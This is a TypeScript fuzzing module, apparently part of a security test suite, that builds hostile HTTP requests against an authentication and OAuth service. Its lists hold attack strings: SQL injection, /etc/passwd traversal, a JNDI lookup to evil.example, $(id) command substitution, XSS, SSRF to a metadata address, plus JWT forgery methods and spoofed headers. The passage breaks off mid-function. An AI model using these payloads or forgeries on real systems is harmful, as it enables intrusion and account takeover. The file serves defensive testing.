// fast-check arbitraries for hostile HTTP requests: path parameters, query strings,
// headers, credentials and bodies for one documented operation. Real identifiers and
// tokens appear as references (see values.ts), resolved just before the request is sent.
import fc from 'fast-check';
import type { JsonSchema, Operation, Parameter } from './openapi-ops.js';
import { TEXT_PATTERN } from '../../src/schemas.js';
import {
  type ActorName,
  type Forgery,
  type Tree,
  type Val,
  Ref,
  actorRef,
  base64,
  clientRef,
  concat,
  etagRef,
  forgedRef,
  issuerRef,
  kidRef,
  poolRef,
  ref,
  victimRef,
} from './values.js';

export const GOOD_PASSWORD = 'quiet-lantern-orbit-47';

// ---- strings ----

/** Strings that have broken services before: injection, traversal, encodings, odd Unicode. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t',
  '\u0000',
  'a\u0000b',
  '\u0000@example.com',
  '%00',
  '%zz',
  '%',
  '\\',
  '\\u0000',
  '\u0007',
  '\u001b[31m',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  '/proc/self/environ',
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1 UNION SELECT password_hash FROM users',
  "admin'--",
  '$1',
  "\\'",
  '%27',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '\r\nSet-Cookie: a=b',
  '\n',
  'line1\nline2',
  '\r',
  '\u202e',
  '\ufeff',
  '\uffff',
  '\ufffe',
  '\ud800',
  '\udfff',
  'a\ud83d',
  '😀',
  '𝕏𝕏',
  'é',
  'e\u0301',
  '\u0130',
  'ß',
  'ﬀ',
  '\u3000',
  '\u00a0',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'null',
  'undefined',
  'true',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '0x10',
  '9'.repeat(40),
  '-0',
  '1.5',
  'admin',
  'root',
  'a@b',
  '@',
  'a@',
  '@b',
  'a@b@c',
  ' admin@example.com ',
  'ADMIN@EXAMPLE.COM',
  'a@b.c',
  'x@localhost',
  'İstanbul@example.com',
  'ünïcödé@exämple.com',
  `${'a'.repeat(64)}@${'b'.repeat(252)}`,
  `${'a'.repeat(65)}@example.com`,
  '%s%s%s%n',
  'AAAA%08x',
  '*',
  '.*',
  '(a+)+$',
  '\\d+',
  '[',
  '{',
  '}',
  '"',
  "'",
  '`',
  ';',
  '|',
  '&&',
  '$(id)',
  '`id`',
  'openid',
  'openid profile email',
  'openid  profile',
  ' openid',
  'openid ',
  'admin:all',
  'client_credentials',
  'refresh_token',
  'password',
  'http://localhost:3000',
  'https://evil.example',
  'urn:x',
  '//evil.example',
  'http://169.254.169.254/latest/meta-data/',
  'tessera',
  'eyJhbGciOiJub25lIn0.e30.',
  'a.b.c',
  'a.b',
  '....',
  'Bearer x',
];

/** Lone surrogate halves: invalid UTF-16 that must not reach the database or a log intact. */
const surrogates = fc.string({
  unit: fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c)),
  minLength: 1,
  maxLength: 3,
});

/** Around and past every documented size limit and the 16 KiB body limit. */
export const hugeString = fc
  .tuple(
    fc.constantFrom('a', 'é', '😀', '%', '\u0000', '{', '0', ' '),
    fc.constantFrom(65, 129, 201, 255, 321, 513, 1025, 2049, 4097, 8193, 17000),
  )
  .map(([c, n]) => c.repeat(n));

export const anyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 16 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 16 }) },
  { weight: 1, arbitrary: surrogates },
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: hugeString },
);

/** Percent-encodes any string, lone surrogates included (as their raw, invalid UTF-8 bytes). */
export function encodeLoose(s: string): string {
  let out = '';
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt(i);
    const next = s.charCodeAt(i + 1);
    if (c >= 0xd800 && c <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) {
      out += encodeURIComponent(s.slice(i, i + 2));
      i++;
    } else if (c >= 0xd800 && c <= 0xdfff) {
      out += [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)]
        .map((b) => `%${b.toString(16).toUpperCase()}`)
        .join('');
    } else {
      out += encodeURIComponent(s[i]!);
    }
  }
  return out;
}

// ---- tokens ----

const FORGERY_METHODS: Forgery['method'][] = [
  'alg-none',
  'hs256-public-key',
  'hs256-random',
  'embedded-jwk',
  'garbage-signature',
  'claims-swapped',
  'signature-stripped',
  'refresh-as-access',
  'header-only',
  'extra-segments',
];

export const forgeryArb: fc.Arbitrary<Forgery> = fc.record({
  method: fc.constantFrom(...FORGERY_METHODS),
  alg: fc.constantFrom(
    'none',
    'None',
    'NONE',
    'nOnE',
    'HS256',
    'HS512',
    'ES256',
    'RS256',
    'PS256',
    'EdDSA',
    'ES256K',
    '',
  ),
  typ: fc.constantFrom('at+jwt', 'JWT', 'refresh+jwt', 'application/at+jwt', undefined),
  kid: fc.constantFrom('real', 'random', 'traversal', 'sql', 'missing', 'huge'),
  claims: fc.oneof(
    fc.constant({}),
    fc.record(
      {
        exp: fc.constantFrom(0, -1, 1e20, '9999999999', null, 4102444800),
        nbf: fc.constantFrom(0, 4102444800, 'x'),
        aud: fc.constantFrom('http://localhost:3000', 'https://evil.example', ['a', 'b'], ''),
        iss: fc.constantFrom('http://localhost:3000', 'https://evil.example', ''),
        roles: fc.constantFrom(['admin'], ['admin', 'moderator', 'user'], 'admin', [], null),
        sid: fc.oneof(fc.uuid(), fc.constantFrom("' OR 1=1 --", '', null)),
        scope: fc.constantFrom('openid', '*', 'admin'),
        typ: fc.constantFrom('at+jwt', 'refresh+jwt'),
      },
      { requiredKeys: [] },
    ),
  ),
  subject: fc.constantFrom<ActorName | 'victim' | 'random'>('admin', 'moderator', 'user', 'victim', 'random'),
});

const realToken = fc.oneof(
  fc
    .constantFrom<ActorName>('admin', 'moderator', 'user')
    .chain((a) => fc.constantFrom<Val>(actorRef(a, 'access'), actorRef(a, 'refresh'))),
  fc.nat({ max: 50 }).chain((i) => fc.constantFrom<Val>(poolRef('access', i), poolRef('refresh', i))),
);

/** Anything presented as a token: real ones, forged ones, garbage. */
export const tokenVal: fc.Arbitrary<Val> = fc.oneof(
  { weight: 3, arbitrary: realToken },
  { weight: 3, arbitrary: forgeryArb.map((f) => forgedRef(f) as Val) },
  { weight: 1, arbitrary: realToken.map((t) => concat(t, 'x')) },
  { weight: 2, arbitrary: anyString },
);

// ---- credentials ----

export type Credential =
  | { kind: 'none' }
  /** A real, live access token of this actor (the harness keeps it live). */
  | { kind: 'actor'; actor: ActorName; header: Val }
  /** A token the service issued during the run: maybe live, maybe not. */
  | { kind: 'pool'; header: Val }
  /** Real client credentials (HTTP Basic). */
  | { kind: 'client'; client: 'introspector' | 'plain'; header: Val }
  /** Anything that must never authenticate anyone. */
  | { kind: 'invalid'; header: Val };

const scheme = fc.constantFrom('Bearer ', 'bearer ', 'BEARER ');

const invalidAuthorization: fc.Arbitrary<Val> = fc.oneof(
  anyString.map((s) => `Bearer ${s}`),
  fc.constantFrom(
    'Bearer',
    'Bearer ',
    'Bearer  x',
    'Token abc',
    'Digest username="a"',
    'Basic',
    'Basic ',
    'Basic !!!',
    'Basic =',
    'Negotiate YII=',
    'Bearer a.b.c',
    `Bearer ${'a'.repeat(9000)}`,
  ),
  fc
    .constantFrom('nocolon', ':', '%zz:%zz', 'tessera:', ':secret', 'a:b:c', '\u0000:\u0000')
    .map((s) => `Basic ${Buffer.from(s).toString('base64')}`),
  fc.tuple(anyString, anyString).map(([a, b]) => concat('Basic ', base64(`${a}:${b}`))),
  fc.tuple(scheme, forgeryArb).map(([s, f]) => concat(s, forgedRef(f))),
  fc.constantFrom<ActorName>('admin', 'moderator', 'user').map((a) => concat('Bearer ', actorRef(a, 'refresh'))),
  fc.constantFrom<ActorName>('admin', 'user').map((a) => concat('Bearer ', actorRef(a, 'access'), 'x')),
  fc.constantFrom<ActorName>('admin', 'user').map((a) => concat('Basic ', actorRef(a, 'access'))),
  fc.constantFrom<ActorName>('admin', 'user').map((a) => actorRef(a, 'access') as Val),
  fc
    .constantFrom<ActorName>('admin', 'user')
    .map((a) => concat('Bearer ', actorRef(a, 'access'), ' Bearer ', actorRef(a, 'access'))),
  fc
    .constantFrom('introspector', 'plain')
    .map((c) => concat('Basic ', base64(concat(clientRef(c as 'introspector', 'id'), ':wrong-secret')))),
);

/** Mostly the credentials the operation is about (a client's at the OAuth endpoints, an admin's elsewhere). */
export const credentialArb = (op: Operation): fc.Arbitrary<Credential> =>
  fc.oneof(
    { weight: op.path.startsWith('/oauth/') ? 4 : 2, arbitrary: fc.constant<Credential>({ kind: 'none' }) },
    {
      weight: op.path.startsWith('/oauth/') ? 2 : 6,
      arbitrary: scheme.map<Credential>((s) => ({
        kind: 'actor',
        actor: 'admin',
        header: concat(s, actorRef('admin', 'access')),
      })),
    },
    {
      weight: 1,
      arbitrary: fc.constant<Credential>({
        kind: 'actor',
        actor: 'moderator',
        header: concat('Bearer ', actorRef('moderator', 'access')),
      }),
    },
    {
      weight: 1,
      arbitrary: fc.constant<Credential>({
        kind: 'actor',
        actor: 'user',
        header: concat('Bearer ', actorRef('user', 'access')),
      }),
    },
    { weight: 5, arbitrary: invalidAuthorization.map<Credential>((header) => ({ kind: 'invalid', header })) },
    {
      weight: 1,
      arbitrary: fc
        .nat({ max: 50 })
        .map<Credential>((i) => ({ kind: 'pool', header: concat('Bearer ', poolRef('access', i)) })),
    },
    {
      weight: op.path.startsWith('/oauth/') ? 8 : 1,
      arbitrary: fc
        .constantFrom<'introspector' | 'plain'>('introspector', 'introspector', 'plain')
        .map<Credential>((client) => ({
          kind: 'client',
          client,
          header: concat('Basic ', base64(concat(clientRef(client, 'id'), ':', clientRef(client, 'secret')))),
        })),
    },
  );

// ---- headers ----

const forbiddenHeaderNames = new Set([
  'host',
  'content-length',
  'transfer-encoding',
  'content-type',
  'authorization',
  'connection',
  'expect',
  'upgrade',
  'te',
  'trailer',
]);

const headerChoices: Array<fc.Arbitrary<[string, Val]>> = [
  fc
    .constantFrom(
      'https://evil.example',
      'null',
      'http://localhost:3000',
      'file://',
      '*',
      'http://localhost:3000.evil.example',
    )
    .map((v) => ['origin', v]),
  fc
    .oneof(
      fc.ipV4(),
      fc.ipV6(),
      fc.constantFrom('127.0.0.1, 10.0.0.1', 'unknown', '::1', '', '1.1.1.1, , ,', '999.999.999.999'),
      anyString,
    )
    .map((v) => ['x-forwarded-for', v]),
  fc.constantFrom('https', 'http', 'javascript', '').map((v) => ['x-forwarded-proto', v]),
  fc.constantFrom('evil.example', 'localhost:3000', '').map((v) => ['x-forwarded-host', v]),
  fc.ipV4().map((v) => ['x-real-ip', v]),
  fc
    .oneof(
      fc.constantFrom(
        '__proto__=x',
        `session=${'a'.repeat(5000)}`,
        'a=b; a=c',
        '=; ;=',
        'refresh_token=x',
        '__Host-tessera=1',
      ),
      fc.tuple(anyString, anyString).map(([k, v]) => `${k}=${v}`),
    )
    .map((v) => ['cookie', v]),
  fc
    .constantFrom<Val>(etagRef, etagRef, '*', 'W/"x"', '""', 'garbage', `"${'x'.repeat(3000)}"`)
    .map((v) => ['if-none-match', v]),
  fc
    .constantFrom('*/*', 'text/html', 'application/xml', 'application/json;q=0', '', 'application/problem+json')
    .map((v) => ['accept', v]),
  fc.constantFrom('utf-16', 'latin1', '*').map((v) => ['accept-charset', v]),
  fc.constantFrom('gzip, deflate, br', 'identity;q=0', '*;q=0', 'x').map((v) => ['accept-encoding', v]),
  fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'x').map((v) => ['content-encoding', v]),
  anyString.map((v) => ['user-agent', v]),
  fc.constantFrom('DELETE', 'PATCH', 'PUT', 'GET').map((v) => ['x-http-method-override', v]),
  anyString.map((v) => ['x-request-id', v]),
  fc.constantFrom('/admin/keys/rotate', '/admin/users').map((v) => ['x-original-url', v]),
  fc.constantFrom('POST', 'DELETE').map((v) => ['access-control-request-method', v]),
  fc.constantFrom<Val>('https://evil.example/', issuerRef).map((v) => ['referer', v]),
  fc.tuple(fc.stringMatching(/^[a-z][a-z0-9-]{0,15}$/), anyString),
];

/** A few extra headers per request, from the list above or random. */
export const headersArb: fc.Arbitrary<Record<string, Val>> = fc
  .array(fc.oneof(...headerChoices), { maxLength: 4 })
  .map((entries) => {
    const out: Record<string, Val> = {};
    for (const [name, value] of entries) if (!forbiddenHeaderNames.has(name)) out[name] = value;
    return out;
  });

/** Only what can travel in an HTTP/1.1 header: visible ASCII, space, tab and obs-text. */
export const headerSafe = (value: string) => value.replace(/[^\t\x20-\x7e\x80-\xff]/g, '');

// ---- path and query ----

export interface PathValue {
  value: Val;
  /** Sent as is (traversal, broken escapes) rather than percent-encoded. */
  raw: boolean;
}

/** A field's own pattern; the one every text field carries says only what it refuses, and generates nothing useful. */
const ownPattern = (schema: JsonSchema) => (schema.pattern === TEXT_PATTERN ? undefined : schema.pattern);

const TRAVERSAL = [
  '..',
  '../',
  '../..',
  '../../admin/keys/rotate',
  '..%2f..%2f',
  '%2e%2e',
  '%2e%2e%2f',
  '..%5c',
  '%00',
  '%2500',
  '%zz',
  '%',
  '%E0%A4%A',
  '%ff%fe',
  '.',
  '%2e',
  'a/b',
  'a%2fb',
  '',
  ';',
  'a;b=c',
  '*',
  'admin',
  'me',
  'rotate',
  '%20',
  '+',
  '..;/',
  'a?x=1',
  '#frag',
  '%23',
  '%3F',
  '\\..\\',
  '%C0%AE%C0%AE%2F',
  '%u002e',
  '%0d%0aSet-Cookie:%20a=b',
  '%c0%80',
];

function validPathValue(param: Parameter): fc.Arbitrary<Val> {
  if (param.schema.pattern?.includes('{43}')) {
    return fc.oneof(
      fc.nat({ max: 20 }).map((i) => kidRef(i) as Val),
      fc.stringMatching(/^[A-Za-z0-9_-]{43}$/),
    );
  }
  if (param.schema.format === 'uuid') {
    return fc.oneof(
      fc.constantFrom<Val>(
        actorRef('admin', 'id'),
        actorRef('moderator', 'id'),
        actorRef('user', 'id'),
        victimRef('id'),
        victimRef('id'),
        victimRef('id'),
      ),
      fc.uuid(),
      fc.uuid().map((u) => u.toUpperCase()),
      fc.constantFrom(
        '00000000-0000-0000-0000-000000000000',
        'ffffffff-ffff-ffff-ffff-ffffffffffff',
        '{00000000-0000-0000-0000-000000000000}',
        '000000000000000000000000000000000000',
      ),
    );
  }
  return fc.oneof(
    fc.constantFrom<Val>(actorRef('admin', 'sid'), actorRef('user', 'sid'), actorRef('moderator', 'sid')),
    fc.uuid(),
    fc.constantFrom('current', 'all', '0', '-1'),
  );
}

export function pathValueArb(param: Parameter): fc.Arbitrary<PathValue> {
  return fc.oneof(
    { weight: 8, arbitrary: validPathValue(param).map((value) => ({ value, raw: false })) },
    { weight: 2, arbitrary: anyString.map((value) => ({ value, raw: false })) },
    { weight: 2, arbitrary: fc.constantFrom(...TRAVERSAL).map((value) => ({ value, raw: true })) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(199, 200, 201, 255, 300, 5000).map((n) => ({ value: 'k'.repeat(n), raw: false })),
    },
  );
}

export type QueryPart = [name: string, value: Val, raw: boolean];

function validQueryValue(param: Parameter): fc.Arbitrary<Val> {
  if ((param.name === 'since' || param.name === 'until') && ownPattern(param.schema) === undefined) {
    // Free-form times (RFC 3339 or unix seconds): the edges of every calendar and integer.
    return fc.oneof(
      fc.date({ min: new Date(-8.64e15), max: new Date(8.64e15), noInvalidDate: true }).map((d) => d.toISOString()),
      fc.constantFrom(
        '0',
        '-1',
        '1e10',
        '99999999999999',
        '999999999999999999999',
        '9999-12-31T23:59:59Z',
        '+275760-09-13T00:00:00.000Z',
        '2026-02-30T00:00:00Z',
        'now',
        '1970-01-01',
        'NaN',
        'Infinity',
        '0x10',
        ' 1',
        '1.5',
        '2026-01-01T00:00:00+99:99',
      ),
      fc
        .integer({ min: -700, max: 60 })
        .map((d) => ref(`now${d >= 0 ? '+' : ''}${d}`, () => String(Math.floor(Date.now() / 1000) + d)) as Val),
    );
  }
  if (param.name === 'since') {
    return fc.oneof(
      fc
        .integer({ min: -700, max: 60 })
        .map((d) => ref(`now${d >= 0 ? '+' : ''}${d}`, () => String(Math.floor(Date.now() / 1000) + d)) as Val),
      fc.constantFrom('0', '1', '999999999999', '000000000000'),
    );
  }
  const schema = param.schema;
  // Query parameters' enums and anyOfs hold strings, never objects or arrays.
  if (schema.enum || schema.anyOf)
    return validFromSchema(schema).map((v) => String(v as null | boolean | number | string | Ref));
  if (schema.format === 'uuid')
    return fc.oneof(fc.constantFrom<Val>(actorRef('admin', 'id'), actorRef('user', 'id'), victimRef('id')), fc.uuid());
  if (param.name === 'type')
    return fc.oneof(
      fc.constantFrom(
        'login_failure',
        'login_success',
        'session_ended',
        'key_created',
        'client_created,login_failure',
        'roles_changed',
      ),
      fc.stringMatching(/^[a-z_]{1,64}$/),
    );
  if (param.name === 'actor' || param.name === 'target') {
    return fc.oneof(
      fc.constantFrom<Val>(actorRef('admin', 'id'), victimRef('id'), clientRef('plain', 'id'), kidRef(0), 'cli'),
      fc.string({ minLength: 1, maxLength: 40 }),
    );
  }
  if (param.name === 'cursor' && schema.pattern?.includes('A-Za-z'))
    return fc.oneof(
      anyString.map((s) => Buffer.from(s).toString('base64url')).filter((c) => c.length > 0),
      fc.stringMatching(/^[A-Za-z0-9_-]{1,40}$/),
    );
  const pattern = ownPattern(schema);
  if (pattern) return fc.stringMatching(new RegExp(pattern));
  return fc.oneof(
    fc.constantFrom<Val>('example', '@', '%', '_', 'a', actorRef('admin', 'email'), victimRef('email')),
    fc.string({ minLength: schema.minLength ?? 0, maxLength: Math.min(schema.maxLength ?? 40, 40) }),
  );
}

const RAW_QUERY_NOISE = [
  '',
  '&&',
  '=',
  'a',
  '%zz=1',
  'a=%zz',
  '__proto__[x]=1',
  '__proto__=1',
  'constructor[prototype][x]=1',
  'a[]=1&a[]=2',
  'a[b][c]=1',
  'since=1&since=2',
  'limit=1&limit=2',
  'query=%00',
  'x=%ff%fe',
  'toString=1',
  'hasOwnProperty=1',
  '=x',
  '&=&',
];

export function queryArb(op: Operation): fc.Arbitrary<QueryPart[]> {
  // Optional parameters are often left out, so requests with several of them still validate now and then.
  const documented = op.queryParams.map((p) =>
    fc.oneof(
      { weight: 5, arbitrary: validQueryValue(p).map((v) => [[p.name, v, false]] as QueryPart[]) },
      { weight: p.required ? 1 : 5, arbitrary: fc.constant([] as QueryPart[]) },
      { weight: 1, arbitrary: anyString.map((v) => [[p.name, v, false]] as QueryPart[]) },
      {
        weight: 1,
        arbitrary: fc.tuple(validQueryValue(p), validQueryValue(p)).map(
          ([a, b]) =>
            [
              [p.name, a, false],
              [p.name, b, false],
            ] as QueryPart[],
        ),
      },
      {
        weight: 1,
        arbitrary: fc.constantFrom('%00', '%zz', '', '%ff', '+', '%2B').map((v) => [[p.name, v, true]] as QueryPart[]),
      },
    ),
  );
  const extra = fc.oneof(
    { weight: 4, arbitrary: fc.constant([] as QueryPart[]) },
    {
      weight: 1,
      arbitrary: fc.array(
        fc.tuple(anyString, anyString).map(([k, v]) => [k, v, false] as QueryPart),
        { maxLength: 3 },
      ),
    },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_QUERY_NOISE).map((q) => [['', q, true]] as QueryPart[]) },
  );
  // Half the time only valid values (or none), so operations with many parameters also get past validation.
  const clean = op.queryParams.map((p) =>
    fc.oneof(
      { weight: 1, arbitrary: validQueryValue(p).map((v) => [[p.name, v, false]] as QueryPart[]) },
      { weight: p.required ? 0 : 2, arbitrary: fc.constant([] as QueryPart[]) },
    ),
  );
  return fc.oneof(
    fc.tuple(fc.tuple(...documented), extra).map(([docs, more]) => [...docs.flat(), ...more]),
    fc.tuple(...clean).map((docs) => docs.flat()),
  );
}

// ---- bodies ----

export type Encoding = 'json' | 'form';

export type Body =
  | { kind: 'none'; contentType: string | undefined }
  /** A JSON-shaped value, serialized at send time; `text` rewrites the JSON (raw attacks). */
  | {
      kind: 'tree';
      encoding: Encoding;
      tree: Tree;
      contentType: string | undefined;
      rewrite?: { label: string; fn: (json: string) => string };
    }
  /** Form pairs in order (a name may repeat); raw pairs are not percent-encoded. */
  | { kind: 'pairs'; pairs: QueryPart[]; contentType: string | undefined }
  | { kind: 'text'; text: string; contentType: string | undefined }
  | { kind: 'bytes'; bytes: Uint8Array; contentType: string | undefined };

const JSON_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json;charset=UTF-8',
  'APPLICATION/JSON',
  'Application/Json ; charset=utf-8',
];
const FORM_TYPES = [
  'application/x-www-form-urlencoded',
  'application/x-www-form-urlencoded; charset=utf-8',
  'APPLICATION/X-WWW-FORM-URLENCODED',
  'application/x-www-form-urlencoded;charset=ISO-8859-1',
];
const ODD_TYPES = [
  'text/plain',
  'text/plain; charset=utf-8',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'application/octet-stream',
  'application/xml',
  'text/xml',
  'application/jsonx',
  'application/json-patch+json',
  'application/merge-patch+json',
  'application/ld+json',
  'text/json',
  '*/*',
  'application/*',
  '',
  ';',
  ';;;',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/json; charset=""',
  'application/x-www-form-urlencodedx',
  'application/json, application/x-www-form-urlencoded',
  'json',
  'x/y',
  'text/html',
  'image/png',
  'application/csp-report',
  'application/json; boundary=x; charset=utf-8',
  ' application/json',
  'application/ json',
];

function contentTypeArb(encoding: Encoding | undefined): fc.Arbitrary<string | undefined> {
  const right = encoding === 'json' ? JSON_TYPES : encoding === 'form' ? FORM_TYPES : [];
  const other = encoding === 'json' ? FORM_TYPES : encoding === 'form' ? JSON_TYPES : [...JSON_TYPES, ...FORM_TYPES];
  return fc.oneof(
    { weight: right.length ? 12 : 0, arbitrary: right.length ? fc.constantFrom(...right) : fc.constant(undefined) },
    { weight: 2, arbitrary: fc.constantFrom(...ODD_TYPES, ...other) },
    { weight: 1, arbitrary: anyString },
    { weight: 1, arbitrary: fc.constant(undefined) },
  );
}

/** Realistic values for fields the service gives meaning to, by name. */
function namedString(name: string): fc.Arbitrary<Val> | undefined {
  switch (name) {
    case 'email':
      return fc.oneof(
        fc.constantFrom<Val>(
          actorRef('admin', 'email'),
          actorRef('user', 'email'),
          actorRef('moderator', 'email'),
          victimRef('email'),
        ),
        fc.emailAddress(),
        fc.nat().map((n) => `fuzz-${n}@example.com`),
        fc.constantFrom(' Mixed.Case@Example.COM ', 'a@b.co'),
      );
    case 'password':
    case 'current_password':
    case 'new_password':
      return fc.oneof(
        fc.constant(GOOD_PASSWORD),
        fc.stringMatching(/^[a-z]{5}-[a-z]{7}-[a-z]{5}-[0-9]{2}$/),
        fc.constantFrom('password', 'password123', 'aaaaaaaaaaaa', 'short', '€'.repeat(300), 'a'.repeat(1024)),
        fc.constantFrom<Val>(actorRef('admin', 'email')),
      );
    case 'grant_type':
      return fc.constantFrom(
        'refresh_token',
        'refresh_token',
        'client_credentials',
        'client_credentials',
        'password',
        'authorization_code',
        'implicit',
        'urn:ietf:params:oauth:grant-type:jwt-bearer',
        'urn:ietf:params:oauth:grant-type:device_code',
        'urn:ietf:params:oauth:grant-type:token-exchange',
        '__proto__',
        'constructor',
        'toString',
        'hasOwnProperty',
        'REFRESH_TOKEN',
        'refresh_token ',
      );
    case 'refresh_token':
    case 'token':
      return tokenVal;
    case 'client_id':
      return fc.oneof(
        fc.constantFrom<Val>(
          clientRef('introspector', 'id'),
          clientRef('plain', 'id'),
          'tessera',
          'tessera ',
          'TESSERA',
        ),
        anyString,
      );
    case 'client_secret':
      return fc.oneof(
        fc.constantFrom<Val>(clientRef('introspector', 'secret'), clientRef('plain', 'secret')),
        anyString,
      );
    case 'scope':
      return fc.constantFrom(
        'openid',
        'openid profile email',
        'profile',
        'email openid',
        'openid openid',
        'admin',
        'openid  profile',
        ' openid',
        'api:read',
        'read write',
        '*',
      );
    case 'resource':
      return fc.oneof(
        fc.constantFrom<Val>(
          issuerRef,
          'http://localhost:3000/',
          'https://api.example.com',
          'urn:x',
          'https://evil.example',
        ),
        anyString,
      );
    case 'token_type_hint':
      return fc.constantFrom('access_token', 'refresh_token', 'id_token', '', 'ACCESS_TOKEN');
    case 'name':
      return fc.oneof(fc.constantFrom('billing-service', 'svc', ' padded ', 'tab\there', 'bell\u0007'), anyString);
    default:
      return undefined;
  }
}

function stringFromSchema(schema: JsonSchema): fc.Arbitrary<string> {
  if (schema.enum) return fc.constantFrom(...(schema.enum as string[]));
  if (schema.format === 'uuid') return fc.uuid();
  const pattern = ownPattern(schema);
  if (pattern) return fc.stringMatching(new RegExp(pattern), { maxLength: 80 });
  return fc.string({ minLength: schema.minLength ?? 0, maxLength: Math.min(schema.maxLength ?? 40, 40) });
}

/** A value that fits the documented schema, mostly, with realistic values for known names. */
export function validFromSchema(schema: JsonSchema, name = ''): fc.Arbitrary<Tree> {
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((s) => validFromSchema(s, name)));
  if (schema.enum) return fc.constantFrom(...(schema.enum as Tree[]));
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'string': {
      const named = namedString(name);
      return named
        ? fc.oneof({ weight: 4, arbitrary: named }, { weight: 1, arbitrary: stringFromSchema(schema) })
        : stringFromSchema(schema);
    }
    case 'boolean':
      return fc.boolean();
    case 'integer':
    case 'number':
      return fc.integer();
    case 'array': {
      const items = validFromSchema(schema.items ?? {}, name);
      const constraints = { minLength: schema.minItems ?? 0, maxLength: Math.min(schema.maxItems ?? 4, 4) };
      return schema.uniqueItems
        ? fc.uniqueArray(items, { ...constraints, selector: (v) => JSON.stringify(v) })
        : fc.array(items, constraints);
    }
    case 'object':
    default: {
      const properties = schema.properties ?? {};
      const model: Record<string, fc.Arbitrary<Tree>> = {};
      for (const [key, sub] of Object.entries(properties)) model[key] = validFromSchema(sub, key);
      // Optional fields now and then, so the cases that pass validation reach the handler.
      const required = new Set(schema.required ?? []);
      const entries = Object.entries(model).map(([key, arb]) =>
        required.has(key)
          ? arb.map((v) => [key, v] as const)
          : fc.oneof(
              { weight: 3, arbitrary: fc.constant(undefined) },
              { weight: 1, arbitrary: arb.map((v) => [key, v] as const) },
            ),
      );
      return fc.tuple(...entries).map((pairs) => Object.fromEntries(pairs.filter((p) => p !== undefined)) as Tree);
    }
  }
}

const realRefresh: fc.Arbitrary<Val> = fc.oneof(
  fc.constantFrom<ActorName>('admin', 'moderator', 'user').map((a) => actorRef(a, 'refresh') as Val),
  fc.nat({ max: 50 }).map((i) => poolRef('refresh', i) as Val),
);
const strongPassword = fc.stringMatching(/^[a-z]{5}-[a-z]{7}-[a-z]{5}-[0-9]{2}$/);
const someClient = fc.constantFrom<'introspector' | 'plain'>('introspector', 'introspector', 'plain');

/**
 * Coherent requests per operation, the way a real caller would send them, so that the
 * cases which pass validation also reach the handlers (refreshes, client grants, logins).
 */
function recipe(op: Operation): fc.Arbitrary<Tree> | undefined {
  switch (op.id) {
    case 'POST /auth/login':
      return fc.oneof(
        fc.record({
          email: fc.constantFrom<Tree>(actorRef('admin', 'email'), actorRef('user', 'email'), victimRef('email')),
          password: fc.constantFrom(GOOD_PASSWORD, 'wrong-password-99'),
        }),
        fc.record({
          email: fc.constantFrom<Tree>(actorRef('user', 'email'), victimRef('email')),
          password: fc.constant(GOOD_PASSWORD),
          scope: fc.constantFrom('openid', 'openid email', 'admin'),
          resource: fc.constantFrom('https://api.example.com', 'https://evil.example'),
        }),
      );
    case 'POST /oauth/token':
      return fc.oneof(
        realRefresh.map((t) => ({ grant_type: 'refresh_token', refresh_token: t })),
        fc
          .tuple(
            realRefresh,
            fc.constantFrom('openid', 'openid email', 'admin', 'openid openid'),
            fc.constantFrom<Tree>(issuerRef, 'https://api.example.com'),
          )
          .map(([t, scope, resource]) => ({ grant_type: 'refresh_token', refresh_token: t, scope, resource })),
        someClient.map((c) => ({
          grant_type: 'client_credentials',
          client_id: clientRef(c, 'id'),
          client_secret: clientRef(c, 'secret'),
        })),
        fc
          .tuple(someClient, fc.constantFrom('api:read', 'api:write', 'api:read api:write', 'openid', 'admin'))
          .map(([c, scope]) => ({
            grant_type: 'client_credentials',
            client_id: clientRef(c, 'id'),
            client_secret: clientRef(c, 'secret'),
            scope,
          })),
        fc.constant({ grant_type: 'client_credentials' }),
      );
    case 'POST /oauth/revoke':
    case 'POST /oauth/introspect':
      return fc.oneof(
        fc
          .tuple(tokenVal, fc.constantFrom('access_token', 'refresh_token', undefined))
          .map(([token, hint]): Tree => (hint ? { token, token_type_hint: hint } : { token })),
        fc
          .tuple(tokenVal, someClient)
          .map(([token, c]) => ({ token, client_id: clientRef(c, 'id'), client_secret: clientRef(c, 'secret') })),
        fc.tuple(tokenVal).map(([token]) => ({ token, client_id: 'tessera' })),
      );
    case 'POST /users':
      return fc.record({
        email: fc.oneof(
          fc.nat().map((n) => `fuzz-${n}@example.com`),
          fc.constantFrom<Tree>(victimRef('email')),
        ),
        password: fc.oneof(strongPassword, fc.constant('password123')),
      });
    case 'POST /users/me/password':
      return fc.record({
        current_password: fc.constantFrom(GOOD_PASSWORD, 'wrong-password-99'),
        new_password: fc.oneof(strongPassword, fc.constantFrom(GOOD_PASSWORD, 'short', 'password123')),
      });
    case 'PATCH /admin/users/{id}':
      return fc.oneof(
